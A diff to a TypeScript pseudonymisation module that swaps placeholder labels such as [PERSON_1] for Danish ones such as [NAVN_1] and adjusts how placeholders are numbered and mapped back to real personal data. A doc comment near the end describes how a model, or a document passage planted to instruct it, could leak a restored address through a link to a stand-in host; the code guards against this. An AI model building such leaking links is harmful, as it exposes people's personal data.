@@ -1,6 +1,6 @@
 import { type DataClass } from './guard.types.js';
 
-/** Placeholder -> the original value it stands for, e.g. { "[PERSON_1]": "Frida Lauritzen" }. */
+/** Placeholder -> the original value it stands for, e.g. { "[NAVN_1]": "Frida Lauritzen" }. */
 export type PseudonymMapping = Record<string, string>;
 
 export interface Pseudonymised {
@@ -14,14 +14,37 @@ interface Span {
   end: number;
 }
 
+/**
+ * The word in a placeholder, in Danish: the model reads Danish text, and so does the person who sees what was
+ * sent. ASCII capitals and _ only, so that every pattern that finds placeholders ([A-Z][A-Z_]*_\d+, also the
+ * stream's, runs.restore-stream.ts) finds these without knowing the list.
+ */
+export const PLACEHOLDER_LABELS: Record<DataClass, string> = {
+  CPR: 'CPR',
+  CVR: 'CVR',
+  PHONE: 'TELEFON',
+  EMAIL: 'EMAIL',
+  ADDRESS: 'ADRESSE',
+  POSTCODE_CITY: 'POSTNR_BY',
+  BANK_ACCOUNT: 'KONTO',
+  PERSON: 'NAVN',
+  HEALTH: 'HELBRED',
+  ETHNICITY: 'ETNICITET',
+  RELIGION: 'RELIGION',
+  UNION: 'FAGFORENING',
+  SEXUAL_ORIENTATION: 'SEKSUALITET',
+  CRIMINAL: 'STRAFFESAG',
+};
+const CLASS_OF_LABEL = new Map<string, DataClass>(Object.entries(PLACEHOLDER_LABELS).map(([c, l]) => [l, c as DataClass]));
+
 const PLACEHOLDER = /\[([A-Z][A-Z_]*)_(\d+)\]/g;
 const DIGIT_TYPES = new Set<DataClass>(['CPR', 'CVR', 'PHONE', 'BANK_ACCOUNT']);
 
 /**
- * Replaces the entities of the given types with placeholders ([PERSON_1], [CPR_1] ...) and returns the
+ * Replaces the entities of the given types with placeholders ([NAVN_1], [CPR_1], [HELBRED_1] ...) and returns the
  * mapping needed to restore them. Within a run the same value always gets the same placeholder: the same
  * name, or the same number however it is written ("220892-9820" and "2208929820"). A genitive written onto
- * a known name keeps its s outside the placeholder ("Albertes" -> "[PERSON_1]s"), so the model sees one
+ * a known name keeps its s outside the placeholder ("Albertes" -> "[NAVN_1]s"), so the model sees one
  * person. Pass the mapping of an earlier call as `previous` to continue numbering across texts of one run.
  * Placeholders never collide with bracketed text that was already in the input.
  */
@@ -55,7 +78,8 @@ export function pseudonymise(
     const m = /^\[([A-Z_]+)_(\d+)\]$/.exec(placeholder);
     if (!m) continue;
     reserve(m[1]!, Number(m[2]));
-    byKey.set(`${m[1]}\u0000${normalise(m[1] as DataClass, value)}`, placeholder);
+    const type = CLASS_OF_LABEL.get(m[1]!);
+    if (type) byKey.set(`${type}\u0000${normalise(type, value)}`, placeholder);
   }
   // Bracketed tokens already in the text must not be mistaken for ours on the way back.
   for (const m of text.matchAll(PLACEHOLDER)) reserve(m[1]!, Number(m[2]));
@@ -64,12 +88,13 @@ export function pseudonymise(
     const key = `${type}\u0000${normalise(type, value)}`;
     const known = byKey.get(key);
     if (known) return known;
-    let n = next.get(type) ?? 1;
-    const taken = used.get(type);
+    const label = PLACEHOLDER_LABELS[type];
+    let n = next.get(label) ?? 1;
+    const taken = used.get(label);
     while (taken?.has(n)) n++;
-    next.set(type, n + 1);
-    reserve(type, n);
-    const placeholder = `[${type}_${n}]`;
+    next.set(label, n + 1);
+    reserve(label, n);
+    const placeholder = `[${label}_${n}]`;
     byKey.set(key, placeholder);
     mapping[placeholder] = value;
     return placeholder;
@@ -133,7 +158,7 @@ export function countKeptInLinks(text: string, mapping: PseudonymMapping): numbe
 
 /**
  * A restored value must never become part of a link or of markup. A model (or a passage of a document planted
- * to instruct it) can write `https://x.example/?d=[ADDRESS_1]`: restored, the real address would travel to
+ * to instruct it) can write `https://x.example/?d=[ADRESSE_1]`: restored, the real address would travel to
  * x.example as soon as someone clicks the link in the case system or e-mail client the approved text is pasted
  * into, which make links of such text by themselves. So the placeholder stays there, the person reviewing the
  * draft sees it, and nothing personal leaves in a link (docs/decisions/0006, addendum).
